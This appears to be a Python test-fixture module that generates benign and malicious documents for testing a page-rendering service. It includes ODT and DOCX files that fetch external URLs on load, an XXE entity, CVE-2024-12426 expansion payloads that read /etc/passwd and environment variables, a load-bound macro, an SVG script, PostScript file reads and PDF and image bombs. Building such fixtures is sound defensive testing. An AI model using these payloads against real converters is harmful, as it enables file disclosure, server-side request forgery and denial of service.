"""Documents for the maker of pages: good ones, and such as want more of the machine than they should."""

from __future__ import annotations

import base64
import io
import zipfile
import zlib
from collections.abc import Mapping

from odf.opendocument import OpenDocumentText
from odf.text import P
from PIL import Image
from reportlab.pdfgen.canvas import Canvas

ODT = "application/vnd.oasis.opendocument.text"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
NAMESPACES = " ".join(
    f'xmlns:{short}="{name}"'
    for short, name in {
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
        "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
        "svg": "urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0",
        "xlink": "http://www.w3.org/1999/xlink",
        "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0",
        "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
    }.items()
)


def pdf(pages: int = 1, text: str = "Seite {} der Vorlage") -> bytes:
    """So many pages with one line of text each."""
    into = io.BytesIO()
    canvas = Canvas(into)
    for number in range(pages):
        canvas.drawString(72, 770, text.format(number + 1))
        canvas.showPage()
    canvas.save()
    return into.getvalue()


def odt(text: str) -> bytes:
    document, into = OpenDocumentText(), io.BytesIO()
    document.text.addElement(P(text=text))
    document.write(into)
    return into.getvalue()


def picture(kind: str, size: tuple[int, int] = (60, 40)) -> bytes:
    into = io.BytesIO()
    Image.new("RGB", size, (200, 10, 10)).save(into, kind)
    return into.getvalue()


def zipped(parts: Mapping[str, bytes | str]) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return into.getvalue()


def odt_of(body: str, scripts: str = "") -> bytes:
    """An ODT with this in its body."""
    content = (
        f'<?xml version="1.0"?><office:document-content {NAMESPACES} office:version="1.2">{scripts}<office:body>'
        f"<office:text><text:p>Anfang</text:p>{body}</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0"?><m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<m:file-entry m:full-path="/" m:media-type="{ODT}"/>'
        '<m:file-entry m:full-path="content.xml" m:media-type="text/xml"/></m:manifest>'
    )
    return zipped({"mimetype": ODT, "content.xml": content, "META-INF/manifest.xml": manifest})


def odt_linking(url: str) -> dict[str, bytes]:
    """ODTs that ask for an address in all the ways that their format has."""
    frame = '<text:p><draw:frame svg:width="5cm" svg:height="5cm">{}</draw:frame></text:p>'
    link = f'xlink:href="{url}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'
    section = '<text:section text:name="s"><text:section-source {}/><text:p>x</text:p></text:section>'
    return {
        "image": odt_of(frame.format(f"<draw:image {link}/>")),
        "object": odt_of(frame.format(f"<draw:object {link}/>")),
        "plugin": odt_of(frame.format(f"<draw:plugin {link}/>")),
        "floating-frame": odt_of(frame.format(f"<draw:floating-frame {link}/>")),
        "section": odt_of(section.format(link)),
    }


def environment_ini(url: str) -> dict[str, bytes]:
    """CVE-2024-12426: variables of the environment and INI values in an address."""
    ways = ("${HOME}", "${.override:/etc/passwd:x}", "${file:///etc/os-release:ID}", "$GREMIUM_CANARY")
    return {
        f"expand-{number}": odt_linking(f"vnd.sun.star.expand:{url}/{way}")["image"] for number, way in enumerate(ways)
    }


def html_as(url: str) -> dict[str, bytes]:
    """What is no office document at all, under the name of one."""
    return {
        "html": f'<html><img src="{url}"><iframe src="{url}"></iframe><p>x</p></html>'.encode(),
        "rtf": rf'{{\rtf1 {{\field{{\*\fldinst INCLUDEPICTURE "{url}"}}}} x}}'.encode(),
        "fodt": odt_flat(url),
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/></svg>'.encode(),
    }


def odt_flat(url: str) -> bytes:
    entity = f'<!DOCTYPE x [<!ENTITY leak SYSTEM "{url}">]>'
    return (
        f'<?xml version="1.0"?>{entity}<office:document {NAMESPACES} office:mimetype="{ODT}" office:version="1.2">'
        "<office:body><office:text><text:p>&leak;</text:p></office:text></office:body></office:document>"
    ).encode()


def docx_linking(url: str) -> bytes:
    """A DOCX whose template, picture and frame lie elsewhere."""
    kinds = ("attachedTemplate", "image", "frame", "oleObject")
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = "".join(
        f'<Relationship Id="r{n}" Type="{base}/{kind}" Target="{url}" TargetMode="External"/>'
        for n, kind in enumerate(kinds)
    )
    words = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    packages = "http://schemas.openxmlformats.org/package/2006"
    field = f'<w:fldSimple w:instr=" INCLUDETEXT &quot;{url}&quot; "/>'
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{packages}/content-types"><Default Extension="rels" ContentType='
            f'"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
            f'ContentType="{DOCX}.main+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{packages}/relationships"><Relationship Id="r" Type='
            f'"{base}/officeDocument" Target="word/document.xml"/></Relationships>',
            "word/document.xml": f'<w:document xmlns:w="{words}"><w:body><w:p><w:r><w:t>x</w:t></w:r>{field}</w:p>'
            "</w:body></w:document>",
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{packages}/relationships">'
            f"{relations}</Relationships>",
        }
    )


def macro(command: str) -> bytes:
    """An ODT with a Basic macro bound to its opening, that would run a command."""
    event = (
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location='
        'document" xlink:type="simple"/></office:event-listeners></office:scripts>'
    )
    assert command
    return odt_of("<text:p>macro</text:p>", event)


def odd_pdfs() -> dict[str, bytes]:
    """PDFs that are broken, endless or far too large."""
    good = pdf(3)
    huge = b"%PDF-1.4\n" + _objects({4: _stream(b"0 0 m " + b"1 1 l " * 3_000_000 + b"S")})
    return {
        "empty": b"",
        "header only": b"%PDF-1.4",
        "cut": good[: len(good) // 2],
        "no pdf": b"\x7fELF" * 100,
        "zeroes": bytes(100_000),
        "page without end": good.replace(b"/Type /Page", b"/Type /Pagf"),
        "its own parent": b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages"
        b"/Kids[2 0 R]/Count 9>>endobj\ntrailer<</Root 1 0 R>>",
        "a form in itself": b"%PDF-1.4\n" + _objects({4: _stream(b"/F Do", b"/Resources<</XObject<</F 4 0 R>>>>")}),
        "a bomb of a stream": huge,
        "a page of kilometres": b"%PDF-1.4\n" + _objects({4: _stream(b"0 0 m S")}, box=b"0 0 99999999 99999999"),
        "a thin page": b"%PDF-1.4\n" + _objects({4: _stream(b"0 0 m S")}, box=b"0 0 1 9999999"),
        "nested arrays": b"%PDF-1.4\n1 0 obj" + b"[" * 200_000 + b"endobj trailer<</Root 1 0 R>>",
    }


def _stream(content: bytes, more: bytes = b"") -> bytes:
    packed = zlib.compress(content)
    head = b"<</Length %d/Filter/FlateDecode/Type/XObject/Subtype/Form/BBox[0 0 9 9]%s>>" % (len(packed), more)
    return head + b"stream\n" + packed + b"\nendstream"


def _objects(more: Mapping[int, bytes], box: bytes = b"0 0 600 800") -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</XObject<</F 4 0 R>>>>>>" % box
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: page, **more}
    body = b"".join(b"%d 0 obj%sendobj\n" % (number, text) for number, text in objects.items())
    return body + b"trailer<</Root 1 0 R>>"


def odd_pictures() -> dict[str, bytes]:
    """Pictures that are bombs or lies."""
    bomb = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(bomb, "PNG", optimize=True)
    return {
        "a picture bomb": bomb.getvalue(),
        "half a picture": picture("PNG")[:60],
        "a script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run\n",
        "no picture": base64.b64decode("R0lGODlh") + b"\xff" * 100,
    }
